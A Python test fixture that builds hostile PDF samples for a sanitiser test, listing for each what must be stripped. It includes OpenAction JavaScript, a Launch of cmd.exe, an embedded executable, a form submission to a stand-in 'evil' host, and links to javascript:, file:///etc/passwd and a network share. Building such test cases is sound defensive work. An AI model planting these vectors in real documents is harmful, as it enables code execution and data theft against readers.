"""PDFs that do something when they are opened, looked at or clicked."""

from collections.abc import Callable

from tests.hostile.documents import CATALOGUE, PAGES, pdf, stream

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
CONTENTS = stream(b"0 0 m 100 100 l S")


def active(catalogue: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    """`more` are objects 5, 6, …"""
    own = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> %b >>"
    return pdf(CATALOGUE.replace(b">>", catalogue + b" >>"), PAGES, own % page, CONTENTS, *more)


def note(entries: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Rect [0 0 50 50] %b >>]" % entries


def link(action: bytes) -> bytes:
    return note(b"/Subtype /Link /A << %b >>" % action)


FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
INSIDE = stream(b"MZ evil payload", b"/Type /EmbeddedFile")

# What is built, what must not be found in the result in any object, and as what it was counted.
ACTIVE: dict[str, tuple[Callable[[], bytes], bytes, str]] = {
    "opens-script": (lambda: active(b"/OpenAction " + SCRIPT), b"app.alert", "JavaScript"),
    "opens-elsewhere": (
        lambda: active(b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
        b"other.pdf",
        "GoToR",
    ),
    "launches": (lambda: active(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), b"cmd.exe", "Launch"),
    "catalogue-aa": (lambda: active(b"/AA << /WC %b >>" % SCRIPT), b"app.alert", "actions"),
    "page-aa": (lambda: active(b"", b"/AA << /O %b >>" % SCRIPT), b"app.alert", "actions"),
    "named-script": (
        lambda: active(b"/Names << /JavaScript << /Names [(x) %b] >> >>" % SCRIPT),
        b"app.alert",
        "JavaScript",
    ),
    "attachment": (
        lambda: active(b"/Names << /EmbeddedFiles << /Names [(x) 5 0 R] >> >>", b"", FILE, INSIDE),
        b"evil payload",
        "attachments",
    ),
    "associated-file": (lambda: active(b"/AF [5 0 R]", b"", FILE, INSIDE), b"evil payload", "attachments"),
    "file-as-note": (
        lambda: active(b"", note(b"/Subtype /FileAttachment /FS 5 0 R"), FILE, INSIDE),
        b"evil payload",
        "attachments",
    ),
    "portfolio": (
        lambda: active(
            b"/Collection << /D (x) >> /Names << /EmbeddedFiles << /Names [(x) 5 0 R] >> >>",
            b"",
            FILE,
            INSIDE,
        ),
        b"evil payload",
        "attachments",
    ),
    "xfa": (
        lambda: active(b"/AcroForm << /Fields [] /XFA 5 0 R >>", b"", stream(b"<xdp:xdp evil/>")),
        b"xdp:xdp",
        "XFA",
    ),
    "field-script": (
        lambda: active(
            b"/AcroForm << /Fields [5 0 R] >>",
            b"/Annots [5 0 R]",
            b"<< /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /AA << /K %b >> >>" % SCRIPT,
        ),
        b"app.alert",
        "actions",
    ),
    "submits": (
        lambda: active(b"", note(b"/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (http://evil/) >>")),
        b"evil",
        "SubmitForm",
    ),
    "imports": (
        lambda: active(b"", note(b"/Subtype /Widget /FT /Btn /A << /S /ImportData /F (evil.fdf) >>")),
        b"evil",
        "ImportData",
    ),
    "script-link": (
        lambda: active(b"", link(b"/S /URI /URI (javascript:alert\\(1\\))")),
        b"javascript:",
        "links",
    ),
    "script-link-hidden": (
        lambda: active(b"", link(b"/S /URI /URI (  jAvA\\nscript:alert\\(1\\))")),
        b"script:",
        "links",
    ),
    "file-link": (lambda: active(b"", link(b"/S /URI /URI (file:///etc/passwd)")), b"passwd", "links"),
    "share-link": (lambda: active(b"", link(b"/S /URI /URI (\\\\\\\\evil\\\\share)")), b"evil", "links"),
    "data-link": (lambda: active(b"", link(b"/S /URI /URI (data:text/html,evil)")), b"evil", "links"),
    "link-and-then": (
        lambda: active(b"", link(b"/S /URI /URI (https://example.com/) /Next " + SCRIPT)),
        b"app.alert",
        "actions",
    ),
    "remote-link": (lambda: active(b"", link(b"/S /GoToE /F (evil.pdf)")), b"evil", "GoToE"),
    "media": (
        lambda: active(b"", note(b"/Subtype /RichMedia /RichMediaContent << /Assets 5 0 R >>"), FILE, INSIDE),
        b"evil payload",
        "RichMedia",
    ),
    "rendition": (
        lambda: active(b"", note(b"/Subtype /Screen /A << /S /Rendition /OP 0 /JS (evil) >>")),
        b"evil",
        "RichMedia",
    ),
    "sound": (
        lambda: active(b"", note(b"/Subtype /Sound /Sound 5 0 R"), stream(b"evil")),
        b"evil",
        "RichMedia",
    ),
    "movie": (lambda: active(b"", note(b"/Subtype /Movie /Movie << /F (evil) >>")), b"evil", "RichMedia"),
    "solid": (lambda: active(b"", note(b"/Subtype /3D /3DD 5 0 R"), stream(b"evil")), b"evil", "RichMedia"),
    "outline-script": (
        lambda: active(
            b"/Outlines 5 0 R",
            b"",
            b"<< /First 6 0 R /Last 6 0 R /Count 1 >>",
            b"<< /Title (x) /Parent 5 0 R /A %b >>" % SCRIPT,
        ),
        b"app.alert",
        "JavaScript",
    ),
    "base-address": (lambda: active(b"/URI << /Base (javascript:evil) >>"), b"evil", ""),
    "picture-elsewhere": (
        lambda: active(b"", b"/Extra 5 0 R", stream(b"", b"/F (evil.bin) /FFilter /FlateDecode")),
        b"evil",
        "other files",
    ),
    "page-elsewhere": (
        lambda: active(
            b"", b"/Group << /X 5 0 R >>", stream(b"", b"/Subtype /Form /Ref << /F (evil.pdf) /Page 0 >>")
        ),
        b"evil",
        "other files",
    ),
    "deep-script": (
        lambda: active(b"", b"/Group " + b"<< /X " * 60 + b"<< /AA << /O %b >> >>" % SCRIPT + b" >>" * 60),
        b"app.alert",
        "actions",
    ),
    "deeper-script": (
        lambda: active(b"", b"/Group " + b"<< /X " * 150 + b"<< /AA << /O %b >> >>" % SCRIPT + b" >>" * 150),
        b"app.alert",
        "",
    ),
    "escaped-name": (
        lambda: active(b"/Open#41ction << /S /J#61vaScript /J#53 (app.alert) >>"),
        b"app.alert",
        "JavaScript",
    ),
    "web-capture": (
        lambda: active(b"/SpiderInfo << /V 1 /C [<< /URL (http://evil/) >>] >>"),
        b"evil",
        "actions",
    ),
    "private-data": (lambda: active(b"/PieceInfo << /X << /Private (evil) >> >>"), b"evil", "private data"),
}
